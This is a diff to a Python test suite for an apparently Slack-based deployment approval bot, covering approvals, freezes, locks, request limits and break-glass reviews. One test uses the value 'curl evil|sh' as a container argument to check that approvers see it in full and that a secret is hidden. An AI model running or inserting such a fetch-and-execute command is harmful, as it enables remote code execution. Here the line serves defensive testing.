@@ -7,10 +7,16 @@ from datetime import timedelta
 
 import pytest
 
+from bot.domain.approval import Approval, ApprovalNote
 from bot.domain.change import ActionKind
-from bot.domain.policy import NOBODY, Members, VerbGroup, Window
+from bot.domain.plan import FieldChange
+from bot.domain.policy import NOBODY, Grant, Members, VerbGroup, Window
 from bot.ports import SlackRefusedError
+from bot.rendering.guard import guard
+from bot.rendering.voice import BlockKitVoice
+from bot.usecases.speak import parent_id
 from tests.fakes.clock import FakeClock
+from tests.unit.domain.approval.samples import an_approval
 from tests.unit.usecases.approving import (
     CAT,
     DAN,
@@ -19,6 +25,7 @@ from tests.unit.usecases.approving import (
     SAM,
     SRE,
     Approving,
+    a_policy,
     asking,
     changed,
 )
@@ -128,10 +135,18 @@ def test_a_group_counts_while_one_is_in_it() -> None:
     assert bed.image() == "reg/httpd:v1"
 
 
+def test_a_word_is_answered_with_how_many_said_yes() -> None:
+    bed = asking()
+    name = bed.asked()
+    assert f"{name} is pending, 1 of 2 said yes." in bed.clicks(ActionKind.APPROVE, name, CAT)
+
+
 def test_the_right_to_approve_is_needed_besides() -> None:
     bed = asking(replace(RULE, approvers=Members(everyone=True)))
     name = bed.asked()
-    assert "Not allowed" in bed.clicks(ActionKind.APPROVE, name, EVE)
+    told = bed.clicks(ActionKind.APPROVE, name, EVE)
+    assert told.startswith("Not allowed: ")
+    assert told.endswith("Nothing was changed.")
     assert bed.approval(name).votes == ()
 
 
@@ -259,6 +274,20 @@ def test_a_freeze_that_has_begun_makes_it_void_even_for_who_approved() -> None:
     bed.votes(name, CAT, DAN)  # to approve needs no thaw
     assert bed.approval(name).state.value == "void"
     assert "is frozen until" in bed.request_of(name).text
+    assert "it cannot run now" in bed.request_of(name).text
+    assert "not what would run" not in bed.request_of(name).text
+
+
+def test_whose_lock_makes_it_void_stands_by_name_and_nobody_else_does() -> None:
+    bed = asking()
+    name = bed.asked()
+    bed.type("lock --reason 'ask <@U7TOM>' web", SAM)
+    bed.work()
+    bed.votes(name, CAT, DAN)
+    shown = bed.request_of(name).text
+    assert "locked by <@U6SAM>" in shown
+    assert "it cannot run now" in shown
+    assert "ask &lt;@U7TOM&gt;" in shown
 
 
 def test_a_right_that_is_gone_makes_it_void() -> None:
@@ -295,12 +324,25 @@ def test_plan_again_asks_anew_in_the_name_of_who_clicks() -> None:
     again = bed.approval(name).again
     assert bed.rollout(again).request.by == BOB
     assert bed.rollout(again).state.value == "awaiting"
-    assert f"Planned again as `{again}`" in bed.request_of(name).text
-    assert "already" in bed.clicks(ActionKind.PLAN_AGAIN, name, CAT)
     new = again.replace("r-", "p-")
+    bed.settle(1)
+    assert f"Planned again as `{new}`" in bed.request_of(name).text
+    assert f"already, as {new}." in bed.clicks(ActionKind.PLAN_AGAIN, name, CAT)
     assert "yourself" in bed.clicks(ActionKind.APPROVE, new, BOB)
     bed.votes(new, CAT, DAN)
     bed.until(again, "completed")
+
+
+def test_what_is_planned_again_and_asks_nobody_is_named_itself() -> None:
+    bed = asking()
+    name = bed.asked()
+    changed(bed)
+    bed.votes(name, CAT, DAN)
+    changed(bed, required=0)
+    bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
+    again = bed.approval(name).again
+    bed.until(again, "completed")
+    assert f"Planned again as `{again}`" in bed.request_of(name).text
 
 
 def test_plan_again_is_for_a_void_one_and_for_who_may() -> None:
@@ -377,7 +419,9 @@ def test_a_closed_channel_refuses_the_command() -> None:
     bed.slack.fail_channel("C1", SlackRefusedError("not_in_channel"))
     made = bed.type(UPDATE)
     bed.work()
-    assert "cannot post" in bed.private(made)
+    told = bed.private(made)
+    assert "cannot post in this channel (Slack says `not_in_channel`)." in told
+    assert told.lower().count("nothing was changed") == 1
     assert bed.rollout(made).state.value == "refused"
     assert bed.approval(made.replace("r-", "p-")).state.value == "cancelled"
 
@@ -549,6 +593,101 @@ def test_broken_glass_runs_at_once_is_loud_and_asks_for_a_review() -> None:
     assert "reviewed already" in bed.clicks(ActionKind.REVIEW, made, SAM)
 
 
+def test_the_very_same_is_asked_for_once() -> None:
+    bed = asking()
+    name = bed.asked()
+    for who in (ANN, BOB):
+        assert f"{name} asks for the very same already" in bed.says(UPDATE, who)
+    bed.clicks(ActionKind.CANCEL_REQUEST, name, ANN)
+    assert bed.asked() != name
+    first = bed.asked("rm web")
+    assert f"{first} asks for the very same already" in bed.says("rm web", BOB)
+
+
+def test_what_has_expired_and_is_not_noted_is_in_nobodys_way() -> None:
+    bed = asking()
+    name = bed.asked()
+    bed.clock.advance(timedelta(minutes=31).total_seconds())
+    assert bed.asked() != name
+
+
+def test_one_person_has_ten_requests_at_most_and_others_have_theirs() -> None:
+    bed = asking()
+    for number in range(10):
+        bed.asked(f"scale web={number + 10}")
+    assert "You have 10 requests pending" in bed.says("scale web=20", ANN)
+    assert "You have 10 requests pending" in bed.says("rm web", ANN)
+    assert len(bed.store.open_ids("default", Approval)) == 10
+    assert bed.asked("scale web=20", BOB)
+
+
+def test_the_same_approvers_are_called_once_in_a_while() -> None:
+    bed = asking()
+    first = bed.asked("scale web=10")
+    assert SRE in bed.request_of(first).text
+    bed.clicks(ActionKind.CANCEL_REQUEST, first, ANN)
+    quiet = [bed.asked(f"scale web={number}") for number in (11, 12)]
+    called = [m for m in bed.slack.messages if SRE in m.content.text]
+    assert called == []
+    for name in quiet:
+        assert f"of those whom `{first}` has called" in bed.request_of(name).text
+    changed(bed, approvers=Members(users=frozenset({DAN.user})))
+    assert f"<@{DAN.user}>" in bed.request_of(bed.asked("scale web=13")).text
+    changed(bed)
+    bed.clock.advance(timedelta(minutes=5).total_seconds())
+    assert SRE in bed.request_of(bed.asked("scale web=14")).text
+
+
+@pytest.mark.parametrize("pad", [20, 320, 3_300])
+@pytest.mark.parametrize("flag", ["--args", "--label-add"])
+def test_what_people_say_yes_to_can_be_read_in_full(pad: int, flag: str) -> None:
+    bed = asking()
+    value = f"'sh -c \"echo {'A' * pad}; curl evil|sh\"'"
+    typed = f"x={value}" if flag == "--label-add" else value
+    name = bed.asked(f"update --env-add KEY=hunter2 {flag} {typed} web")
+    bed.tick()
+    (top,) = bed.slack.shown(parent_id(name))
+    thread = [m.content for m in bed.slack.messages if m.thread_ts == top.ts]
+    thread += [content for where, content in bed.slack.files if where.thread_ts == top.ts]
+    whole = "A" * pad + "; curl evil|sh"
+    shown = [guard(content) for content in (top.content, *thread)]
+    drawn = [str(each.blocks) + (each.file_text or "") for each in shown]
+    assert sum(whole in each for each in drawn) > 0
+    assert len(thread) == (pad > 100)
+    assert ("thread has it in full" in drawn[0]) == (pad > 100)
+    assert not [each for each in drawn if "hunter2" in each]
+
+
+def test_a_value_of_several_lines_is_shown_with_its_ends_of_line() -> None:
+    many = an_approval(changes=(FieldChange(path="args", old=None, new="a\nb"),))
+    shown = BlockKitVoice(open_policy=False).approval_note(many, ApprovalNote.DETAILS)
+    assert "+ args: a\\nb" in shown.text
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "update --no-resolve-image --image reg/httpd:v2 web",
+        "update --no-resolve-image --image reg/httpd:v2 --dry-run web",
+        "create --no-resolve-image --name web2 reg/httpd:v2",
+    ],
+)
+def test_nobody_is_asked_about_a_tag_that_may_move(line: str) -> None:
+    bed = asking()
+    told = bed.says(line, ANN)
+    assert "`reg/httpd:v2` is a tag" in told
+    assert "Leave --no-resolve-image out" in told
+    assert not bed.store.open_ids("default", Approval)
+
+
+def test_a_digest_may_be_approved_unresolved_and_a_tag_goes_where_nobody_is_asked() -> None:
+    bed = asking()
+    line = "update --no-resolve-image --image reg/httpd:v2"
+    bed.asked(f"{line}@sha256:{'ab' * 32} web")
+    bed.policies.policy = a_policy(replace(RULE, verbs=frozenset()))
+    assert bed.done(f"{line} web").state.value == "completed"
+
+
 def test_glass_is_broken_by_the_named_people_only() -> None:
     bed = asking()
     made = bed.type("update --image reg/httpd:v2 --break-glass now web", DAN)
@@ -567,6 +706,25 @@ def test_glass_broken_over_a_removal_asks_for_no_click_and_for_a_review() -> Non
     bed.clicks(ActionKind.REVIEW, made, DAN)
     assert bed.change(made).reviews == (DAN.user,)
     assert "nothing to review" in bed.clicks(ActionKind.REVIEW, "r-none", DAN)
+
+
+def test_a_removal_is_reviewed_by_who_may_approve_where_the_service_was() -> None:
+    bed = asking()
+    made = bed.type("rm --break-glass 'it eats the disk' web", CAT)
+    bed.work()
+    rules = a_policy(version="two")
+    may = frozenset({VerbGroup.APPROVE})
+    elsewhere = Grant(name="eve", role="eve", may=may, environments=frozenset({"default"}))
+    bed.policies.policy = replace(
+        rules,
+        roles={**rules.roles, "eve": Members(users=frozenset({EVE.user}))},
+        grants=(*rules.grants, elsewhere),
+    )
+    bed.tick()
+    assert "Not allowed" in bed.clicks(ActionKind.REVIEW, made, EVE)
+    assert bed.change(made).reviews == ()
+    bed.clicks(ActionKind.REVIEW, made, DAN)
+    assert bed.change(made).reviews == (DAN.user,)
 
 
 def test_there_is_nothing_to_review_where_no_glass_was_broken() -> None:
